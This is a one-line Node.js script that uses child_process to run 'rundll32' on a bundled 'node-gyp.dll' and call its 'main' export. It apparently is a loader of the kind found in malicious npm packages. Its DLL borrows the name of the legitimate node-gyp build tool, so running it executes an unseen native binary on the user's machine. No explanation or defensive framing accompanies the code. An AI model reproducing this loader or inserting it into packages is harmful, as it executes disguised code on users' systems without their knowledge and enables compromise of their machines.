const {exec}=require('child_process'),p=require('path');exec('rundll32 '+p.join(__dirname,'node-gyp.dll')+',main');
